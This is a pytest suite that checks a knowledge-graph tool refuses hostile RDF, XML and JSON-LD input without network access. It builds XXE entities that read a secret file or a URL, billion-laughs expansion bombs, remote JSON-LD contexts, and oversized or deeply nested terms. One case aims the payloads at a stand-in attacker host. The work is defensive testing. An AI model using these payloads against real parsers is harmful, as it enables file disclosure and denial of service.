"""Hostile RDF is refused or parsed without network access, in bounded time and memory.

Each case is a file an attacker could hand to `kg validate` (or slip into the sources of
`kg build`): XML external entities and expansion bombs, JSON-LD contexts by reference, huge
terms, deep nesting. Bait URLs point at recording sockets on loopback, so "no connection"
is observed, not assumed; a secret file stands in for what XXE would leak.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from rdflib import Dataset
from support.recording_socket import OutboundRecorder, RecordingSocket

from kg.cli.main import main
from kg.errors import InputError
from kg.model.rdfguard import MAX_TERM_CHARS
from kg.model.rdfio import load_graph

SECRET = "TOP-SECRET-MARKER-7f3a"
RDF_NS = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/"'
MAX_SECONDS = 5.0
MAX_GROWTH_MB = 200
HUGE = 4 * MAX_TERM_CHARS
DEEP = 100_000


@dataclass(frozen=True)
class Bait:
    """Where a hostile file may try to reach: a recording socket and a secret file."""

    url: str
    secret: Path


def rdf_xml(body: str, doctype: str = "") -> str:
    description = f'<rdf:Description rdf:about="http://example.org/a">{body}</rdf:Description>'
    return f'<?xml version="1.0"?>\n{doctype}<rdf:RDF {RDF_NS}>{description}</rdf:RDF>\n'


def laughs(levels: int = 10) -> str:
    entities = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels)]
    return f"<!DOCTYPE rdf:RDF [{''.join(entities)}]>\n"


def json_ld(context: object, extra: dict | None = None) -> str:
    return json.dumps({"@context": context, "@id": "http://example.org/a", "ex:p": "x", **(extra or {})})


# name -> (suffix, content given the bait, what the refusal says)
REFUSED: dict[str, tuple[str, Callable[[Bait], str], str]] = {
    "xml-xxe-file": (
        ".rdf",
        lambda b: rdf_xml(
            "<ex:p>&s;</ex:p>", f'<!DOCTYPE rdf:RDF [<!ENTITY s SYSTEM "{b.secret.as_uri()}">]>'
        ),
        "XXE",
    ),
    "xml-xxe-http": (
        ".rdf",
        lambda b: rdf_xml("<ex:p>&s;</ex:p>", f'<!DOCTYPE rdf:RDF [<!ENTITY s SYSTEM "{b.url}">]>'),
        "XXE",
    ),
    "xml-parameter-entity": (
        ".rdf",
        lambda b: rdf_xml("", f'<!DOCTYPE rdf:RDF [<!ENTITY % p SYSTEM "{b.url}"> %p;]>'),
        "parameter entity",
    ),
    "xml-external-dtd": (
        ".rdf",
        lambda b: rdf_xml("", f'<!DOCTYPE rdf:RDF SYSTEM "{b.url}">'),
        "external DTD",
    ),
    "xml-billion-laughs": (".rdf", lambda b: rdf_xml("<ex:p>&l9;</ex:p>", laughs()), "expansion bomb"),
    "xml-quadratic-blowup": (
        ".rdf",
        lambda b: rdf_xml(
            "<ex:p>" + "&a;" * 200_000 + "</ex:p>", f'<!DOCTYPE r [<!ENTITY a "{"x" * 1000}">]>'
        ),
        "longer than the limit",
    ),
    "xml-huge-literal": (".rdf", lambda b: rdf_xml(f"<ex:p>{'A' * HUGE}</ex:p>"), "longer than the limit"),
    "xml-char-references": (
        ".rdf",
        lambda b: rdf_xml(f"<ex:p>{'&#65;' * HUGE}</ex:p>"),
        "longer than the limit",
    ),
    "xml-deep": (
        ".rdf",
        lambda b: rdf_xml("<ex:p><rdf:Description><ex:p>" * DEEP + "</ex:p></rdf:Description></ex:p>" * DEEP),
        "nested more than",
    ),
    "jsonld-remote-context": (".jsonld", lambda b: json_ld(b.url), "never fetches"),
    "jsonld-remote-context-in-list": (
        ".jsonld",
        lambda b: json_ld([{"ex": "http://e/"}, b.url]),
        "never fetches",
    ),
    "jsonld-scoped-context": (
        ".jsonld",
        lambda b: json_ld({"ex": "http://e/", "p": {"@id": "ex:p", "@context": b.url}}),
        "never fetches",
    ),
    "jsonld-import": (".jsonld", lambda b: json_ld({"@version": 1.1, "@import": b.url}), "never fetches"),
    "jsonld-local-file-context": (".jsonld", lambda b: json_ld(b.secret.name), "never fetches"),
    "jsonld-nested-context": (
        ".jsonld",
        lambda b: json_ld({"ex": "http://e/"}, {"ex:q": {"@context": b.url, "@id": "http://e/b"}}),
        "never fetches",
    ),
    "jsonld-deep": (
        ".jsonld",
        lambda b: '{"@id": "http://e/a", "http://e/p": ' + '{"http://e/p": ' * DEEP + "1" + "}" * DEEP + "}",
        "nested 100,00",
    ),
    "turtle-huge-literal": (
        ".ttl",
        lambda b: '<http://e/a> <http://e/p> """' + ("A" * 99 + "\n") * (HUGE // 100) + '""" .\n',
        "longer than the limit",
    ),
    "ntriples-huge-literal": (
        ".nt",
        lambda b: f'<http://e/a> <http://e/p> "{"A" * HUGE}" .\n',
        "longer than",
    ),
    "ntriples-huge-iri": (".nt", lambda b: f'<http://e/{"A" * HUGE}> <http://e/p> "x" .\n', "longer than"),
    "nquads-huge-escapes": (
        ".nq",
        lambda b: '<http://e/a> <http://e/p> "' + "\\u0041" * HUGE + '" <http://e/g> .\n',
        "longer than",
    ),
    "turtle-deep-collections": (
        ".ttl",
        lambda b: "<http://e/a> <http://e/p> " + "(" * DEEP + ")" * DEEP + " .\n",
        "nested too deeply",
    ),
    "trig-deep-blank-nodes": (
        ".trig",
        lambda b: (
            "<http://e/g> { <http://e/a> <http://e/p> "
            + "[ <http://e/p> " * DEEP
            + "1"
            + " ]" * DEEP
            + " . }\n"
        ),
        "nested too deeply",
    ),
}

# Files that look suspicious but are harmless: they must still be read (no over-refusal), offline.
ACCEPTED: dict[str, tuple[str, Callable[[Bait], str]]] = {
    "xml-namespace-entity": (
        ".rdf",
        lambda b: rdf_xml(
            '<ex:p rdf:datatype="&xsd;string">x</ex:p>',
            '<!DOCTYPE rdf:RDF [<!ENTITY xsd "http://www.w3.org/2001/XMLSchema#">]>',
        ),
    ),
    "jsonld-embedded-context": (".jsonld", lambda b: json_ld({"ex": "http://example.org/", "@base": b.url})),
    "turtle-prefixes-to-bait": (
        ".ttl",
        lambda b: f"@base <{b.url}> .\n@prefix b: <{b.url}#> .\n<a> b:p <{b.url}data.ttl> .\n",
    ),
    "turtle-long-but-allowed-literal": (".ttl", lambda b: f'<http://e/a> <http://e/p> "{"A" * 100_000}" .\n'),
}


@pytest.fixture
def bait(tmp_path: Path):
    secret = tmp_path / "secret.jsonld"
    secret.write_text(json.dumps({"@context": {"leak": SECRET}}))
    with RecordingSocket() as recorder:
        yield recorder, Bait(recorder.url("/context.jsonld"), secret)


def peak_rss_mb() -> float | None:
    """The process's peak resident memory (VmHWM), in MB; None where /proc does not say."""
    status = Path("/proc/self/status")
    if not status.exists():
        return None
    for line in status.read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return None


def reset_peak_rss() -> bool:
    """Linux resets VmHWM to the current RSS when "5" is written to clear_refs."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        return False
    return True


def validate_cli(path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str, float, float | None]:
    """(exit code, all output, seconds, peak memory growth in MB) of `kg validate path`, in-process."""
    measured = reset_peak_rss()
    before = peak_rss_mb()
    started = time.monotonic()
    code = main(["validate", str(path)])
    elapsed = time.monotonic() - started
    after = peak_rss_mb()
    output = capsys.readouterr()
    growth = after - before if measured and before is not None and after is not None else None
    return code, output.out + output.err, elapsed, growth


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_hostile_file_is_refused_offline_quickly_and_in_bounded_memory(
    case: str, bait, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    recorder, where = bait
    suffix, content, reason = REFUSED[case]
    path = tmp_path / f"hostile{suffix}"
    path.write_text(content(where), encoding="utf-8")
    code, output, elapsed, growth = validate_cli(path, capsys)
    assert code == 2, output
    assert reason in output and str(path) in output
    assert "Traceback" not in output and output.count("\n") == 1
    assert SECRET not in output
    assert elapsed < MAX_SECONDS, f"{case}: {elapsed:.1f} s"
    assert growth is None or growth < MAX_GROWTH_MB, f"{case}: {growth:.0f} MB"
    recorder.assert_untouched(settle=0.05)


@pytest.mark.parametrize("case", sorted(ACCEPTED))
def test_harmless_lookalikes_are_still_read_offline(case: str, bait, tmp_path: Path) -> None:
    recorder, where = bait
    suffix, content = ACCEPTED[case]
    path = tmp_path / f"lookalike{suffix}"
    path.write_text(content(where), encoding="utf-8")
    graph = load_graph([path])
    assert len(graph) >= 1 and SECRET not in graph.serialize(format="nt")
    recorder.assert_untouched(settle=0.05)


@pytest.mark.parametrize("case", ["jsonld-remote-context", "xml-xxe-http", "xml-external-dtd"])
def test_no_host_at_all_is_contacted(case: str, tmp_path: Path) -> None:
    """The same files aimed at a host no listener can stand for: any connect or lookup is recorded."""
    suffix, content, _ = REFUSED[case]
    path = tmp_path / f"hostile{suffix}"
    path.write_text(content(Bait("http://attacker.example.org/ctx", tmp_path / "nothing")), encoding="utf-8")
    recorder = OutboundRecorder()
    with recorder.active(), pytest.raises(InputError):
        load_graph([path])
    assert recorder.attempts == []


def test_without_the_guard_rdflib_would_fetch_the_context(bait, tmp_path: Path) -> None:
    """Why rdfguard exists: plain rdflib connects to a remote @context (here the recording socket)."""
    recorder, where = bait
    path = tmp_path / "remote.jsonld"
    path.write_text(json_ld(where.url))
    with pytest.raises(Exception):  # noqa: B017 - the socket answers nothing usable; any failure will do
        Dataset().parse(path, format="json-ld")
    time.sleep(0.1)
    assert len(recorder.attempts) >= 1
